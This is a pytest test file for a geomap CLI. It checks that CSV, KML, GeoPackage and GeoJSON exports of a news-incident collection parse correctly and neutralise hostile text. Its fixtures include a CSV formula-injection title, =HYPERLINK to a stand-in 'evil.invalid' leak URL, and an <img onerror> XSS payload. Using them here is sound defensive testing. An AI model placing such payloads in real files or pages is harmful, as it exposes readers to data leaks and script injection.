"""Exports and listings of an ordinary, mixed collection, and of hostile text in it.

One collection is built through the real ``geomap add`` from articles of every
shape a news feed brings: titled and untitled, dated and undated, text, HTML with and
without <title>, JSON Lines records with and without title, URL and date, an incident
with no place at all, a place imported into the gazetteer under a formula-like name,
and texts that start cells with ``=``, ``-`` or ``@`` or carry HTML and control
characters.  Every export must then parse with a standard reader and hold the
right values.  The collection is kept in each store in turn (a GeoPackage file, and a
real PostGIS server).
"""

from __future__ import annotations

import csv
import json
import os
import sqlite3
from collections.abc import Iterator
from pathlib import Path
from typing import TYPE_CHECKING

import geopandas as gpd
import lxml.etree
import lxml.html
import pyogrio
import pytest
from click.testing import CliRunner

from geomap.cli.main import cli
from geomap.collection.exports import FORMULA_PREFIXES, INCIDENT_CSV_COLUMNS
from geomap.gazetteer.index import CACHE_ENV, INDEX_FILE

if TYPE_CHECKING:
    from store_fixtures import StoreUnderTest

pytest_plugins = ["store_fixtures"]

KML = {"k": "http://www.opengis.net/kml/2.2"}
HOSTILE_TITLE = '=HYPERLINK("http://evil.invalid/?leak","click") Wildfire near Perth'
IMG = "<img src=x onerror=alert(1)>"
# A GeoNames row whose name is a formula; "Robotyne" in a text finds it.
FORMULA_PLACE = ["9900001", "=Robotyne()", "Robotyne", "Robotyne", "47.44970", "35.83720",
                 "P", "PPL", "UA", "", "26", "", "", "", "480", "", "120",
                 "Europe/Zaporozhye", "2024-01-10"]  # fmt: skip

ARTICLES = {
    "titled-dated.txt": "Earthquake shakes Pokhara\n\nA magnitude 6.1 earthquake struck "
    "Pokhara, Nepal on March 3, 2024, damaging about 40 homes.\n",
    # A first line over 200 characters is no title: this article has none, nor a date.
    "untitled-undated.txt": "Floods forced about 600 residents from their homes in Porto "
    "Alegre, Brazil, and rescuers in Rio Grande do Sul said the Guaiba river was still "
    "rising while shelters in the city's schools were full and volunteers brought boats "
    "from the coast.\n",
    "hostile-title.html": f"<!doctype html><html><head><title>{HOSTILE_TITLE}</title></head>"
    "<body><article><p>-2+3 A wildfire burned through bushland near Perth, Western "
    "Australia on January 12, 2024, and 200 residents were evacuated.</p></article>"
    "</body></html>",
    "no-title-tag.html": "<html><body><p>A storm damaged 30 homes in Lyon, France on June 2, "
    "2024.</p></body></html>",
    "formula-place.txt": "Shelling hit Robotyne, south of Orikhiv in Zaporizhzhia, on "
    "Monday, March 4, 2024, killing 2 people.\n",
    "control-characters.txt": "Floods hit Recife, Brazil on May 2, 2024,\x0b forcing 300 "
    "residents\x0c from their homes.\x01\n",
}
ARTICLES_KABUL_TITLE = "A bomb exploded in Kabul, Afghanistan, killing 5 people."
RECORDS = [
    {"id": "kabul", "text": ARTICLES_KABUL_TITLE},
    {"id": "mosul", "title": f"{IMG} Mosul blast", "url": "https://example.invalid/mosul",
     "date": "2024-05-01", "text": "A bomb exploded in Mosul, Iraq on May 1, 2024, killing 4 "
     "people."},
    {"id": "nowhere", "text": "Gunmen killed 3 people on Tuesday, police said. The attackers "
     "fled."},
]  # fmt: skip


def invoke(*args: str) -> str:
    result = CliRunner(env={"COLUMNS": "300"}).invoke(cli, list(args))  # tables unwrapped
    assert result.exit_code == 0, result.output
    return result.stdout


@pytest.fixture(scope="module")
def mixed(gazetteer_cache: Path, tmp_path_factory: pytest.TempPathFactory,
          module_store: StoreUnderTest) -> Iterator[Path]:  # fmt: skip
    """The data directory of the collection ``mix``, added in one ``geomap add`` run,
    with a private cache (the session's index, plus the imported formula place)."""
    root = tmp_path_factory.mktemp("mixed")
    cache = root / "cache"
    cache.mkdir()
    os.symlink(gazetteer_cache / INDEX_FILE, cache / INDEX_FILE)
    inbox = root / "inbox"
    inbox.mkdir()
    for name, text in ARTICLES.items():
        (inbox / name).write_text(text, encoding="utf-8")
    (inbox / "feed.jsonl").write_text("\n".join(json.dumps(r) for r in RECORDS) + "\n",
                                      encoding="utf-8")  # fmt: skip
    dump = root / "UA.txt"
    dump.write_text("\t".join(FORMULA_PLACE) + "\n", encoding="utf-8")
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv(CACHE_ENV, str(cache))
        invoke("gazetteer", "import", str(dump))
        out = invoke("add", "mix", str(inbox), "--data-dir", str(root / "data"))
        assert f"{len(ARTICLES) + len(RECORDS)} articles added" in out
        yield root / "data"


def export(data: Path, fmt: str, target: Path) -> Path:
    invoke("export", "mix", "-f", fmt, "-o", str(target), "--data-dir", str(data))
    return target


def stored(data: Path, store: StoreUnderTest) -> tuple[dict[str, int], gpd.GeoDataFrame]:
    with store.open("mix", data) as collection:
        return collection.counts(), collection.frame("incidents")


def strict_json(text: str) -> object:
    def refuse(constant: str) -> None:
        raise AssertionError(f"{constant} is not JSON")

    return json.loads(text, parse_constant=refuse)


def test_the_collection_mixes_what_news_brings(mixed: Path,
                                               module_store: StoreUnderTest) -> None:  # fmt: skip
    """The premise of the other tests: every kind of missing value is there."""
    with module_store.open("mix", mixed) as collection:
        articles = collection.articles().set_index("article_id")
        incidents = collection.frame("incidents")
    assert articles.loc["untitled-undated", "title"] is None
    assert articles.loc["untitled-undated", "date"] is None
    assert articles.loc["kabul", "url"] is None and articles.loc["kabul", "site"] is None
    assert articles.loc["mosul", "site"] == "example.invalid"
    assert incidents["date_start"].isna().any() and incidents["date_start"].notna().any()
    assert incidents["place"].isna().any() and incidents.geometry.isna().any()
    assert "=Robotyne()" in set(incidents["place"])


def test_list_tables_and_json(mixed: Path, module_store: StoreUnderTest) -> None:
    table = invoke("list", "mix", "--data-dir", str(mixed))
    assert f"{module_store.label('mix', mixed)}: 9 articles" in table
    assert "untitled-undated" in table and "no-title-tag" in table
    listing = strict_json(invoke("list", "mix", "--json", "--check", "--data-dir", str(mixed)))
    assert listing["problems"] == []
    rows = {r["article_id"]: r for r in listing["article_list"]}
    assert rows["untitled-undated"]["title"] is None and rows["untitled-undated"]["date"] is None
    assert rows["kabul"]["url"] is None and rows["mosul"]["url"] == "https://example.invalid/mosul"
    assert rows["mosul"]["title"] == f"{IMG} Mosul blast"
    assert listing["first_incident"] == "2024-01-12"


def test_list_shows_titles_as_text_not_markup_or_terminal_codes(tmp_path: Path) -> None:
    data = tmp_path / "data"
    data.mkdir()
    (tmp_path / "odd.jsonl").write_text(json.dumps(
        {"id": "odd", "title": "[/] [bold]Storm\x1b[31m in Bergen",
         "text": "A storm damaged 20 homes in Bergen, Norway on May 2, 2024."}) + "\n",
        encoding="utf-8")  # fmt: skip
    invoke("add", "odd", str(tmp_path / "odd.jsonl"), "--data-dir", str(data))
    table = invoke("list", "odd", "--data-dir", str(data))
    assert "[/] [bold]Storm" in table and "\x1b" not in table


def test_csv_parses_and_no_text_cell_is_a_formula(
    mixed: Path, tmp_path: Path, module_store: StoreUnderTest
) -> None:
    path = export(mixed, "csv", tmp_path / "mix.csv")
    counts, incidents = stored(mixed, module_store)
    with path.open(encoding="utf-8", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert list(rows[0]) == INCIDENT_CSV_COLUMNS and len(rows) == counts["incidents"]
    for row in rows:
        for column in ("notes", "source", "location", "actor1", "admin1", "country"):
            assert not row[column].startswith(FORMULA_PREFIXES), (column, row[column])
    by_place = {r["location"]: r for r in rows}
    # Neutralised: one quote before the text, the text itself unchanged.
    assert by_place["'=Robotyne()"]["place_id"] == "gn:9900001"
    perth = by_place["Perth"]
    assert perth["source"] == f"'{HOSTILE_TITLE}"
    assert perth["notes"].startswith("'-2+3 A wildfire burned")
    # Numbers stay numbers, negative ones too, and the file says so: unquoted.
    assert float(perth["longitude"]) == pytest.approx(115.86, abs=0.1)
    assert float(perth["latitude"]) == pytest.approx(-31.95, abs=0.1)
    raw = path.read_text(encoding="utf-8")
    assert f",{perth['latitude']}," in raw and perth["latitude"].startswith("-")
    assert f'"{perth["location"]}"' in raw  # text is quoted: no separator splits it
    # Missing values are empty cells, never "nan".
    undated = by_place["Porto Alegre"]
    assert (undated["event_date"], undated["year"], undated["time_precision"]) == ("", "", "")
    assert undated["source"] == "untitled-undated"  # no title: the article's id
    placeless = next(r for r in rows if r["location"] == "")
    assert placeless["latitude"] == placeless["longitude"] == placeless["place_id"] == ""
    assert "nan" not in {v.lower() for r in rows for v in r.values()}
    assert {r["incident_id"] for r in rows} == set(incidents["incident_id"])


def test_kml_parses_and_its_html_is_escaped_text(mixed: Path, tmp_path: Path,
                                                 module_store: StoreUnderTest) -> None:  # fmt: skip
    path = export(mixed, "kml", tmp_path / "mix.kml")
    counts, incidents = stored(mixed, module_store)
    root = lxml.etree.parse(str(path)).getroot()  # control characters would stop lxml
    assert root.findtext("k:Document/k:Style/k:BalloonStyle/k:text", namespaces=KML) == (
        "$[description]")  # fmt: skip
    folders = {f.findtext("k:name", namespaces=KML): f for f in root.iterfind(".//k:Folder", KML)}
    placemarks = folders["Incidents"].findall("k:Placemark", KML)
    assert len(placemarks) == counts["incidents"]
    assert len(folders["Places"].findall("k:Placemark", KML)) == counts["places"]
    assert all(p.findtext("k:styleUrl", namespaces=KML).startswith("#type-")
               for p in placemarks)  # a style per event type  # fmt: skip
    descriptions = [p.findtext("k:description", namespaces=KML) for p in placemarks]
    mosul = next(d for d in descriptions if "Mosul blast" in d)
    # What a viewer renders as HTML holds the title as text, not as an element.
    fragment = lxml.html.fragment_fromstring(mosul, create_parent="div")
    assert fragment.find(".//img") is None
    assert f"{IMG} Mosul blast" in fragment.text_content()
    recife = next(d for d in descriptions if "Recife" in d)
    assert "\ufffd" in recife and "forcing 300" in recife
    spans = {p.findtext("k:TimeSpan/k:begin", namespaces=KML) for p in placemarks}
    assert None in spans and "2024-03-03" in spans  # undated incidents have no TimeSpan
    names = {p.findtext("k:name", namespaces=KML) for p in placemarks}
    assert any(n.startswith("Shelling/artillery/missile attack in =Robotyne()") for n in names)
    located = incidents.geometry.notna().sum()
    assert len(gpd.read_file(path, layer="Incidents")) in (located, len(incidents))


def test_gpkg_and_geojson_exports_read_back(mixed: Path, tmp_path: Path,
                                            module_store: StoreUnderTest) -> None:  # fmt: skip
    counts, incidents = stored(mixed, module_store)
    gpkg = export(mixed, "gpkg", tmp_path / "mix.gpkg")
    layers = dict(pyogrio.list_layers(gpkg).tolist())
    assert layers == {"incidents_points": "Point", "incidents_areas": "MultiPolygon",
                      "incidents_unlocated": None, "places": "Point", "areas": "MultiPolygon",
                      "articles": None}  # fmt: skip
    assert sum(pyogrio.read_info(gpkg, layer=name)["features"]
               for name in layers if name.startswith("incidents_")) == counts["incidents"]
    assert pyogrio.read_info(gpkg, layer="incidents_unlocated")["features"] == 1
    with sqlite3.connect(gpkg) as conn:
        assert conn.execute("SELECT url IS NULL, title FROM articles WHERE article_id = "
                            "'kabul'").fetchone() == (1, ARTICLES_KABUL_TITLE)  # fmt: skip
    geojson = export(mixed, "geojson", tmp_path / "mix.geojson")
    features = strict_json(geojson.read_text(encoding="utf-8"))["features"]
    shown = {f["id"]: f["properties"] for f in features if f["properties"]["kind"] == "incident"}
    assert set(shown) == set(incidents["incident_id"])
    perth = next(p for p in shown.values() if p["place"] == "Perth")
    assert perth["sources"][0]["title"] == HOSTILE_TITLE and perth["source_url"] is None
    out = invoke("build", "mix", "--data-dir", str(mixed), "--out-dir", str(tmp_path / "maps"))
    assert "9 articles" in out
    assert strict_json((mixed / "mix.geojson").read_text(encoding="utf-8"))["features"]
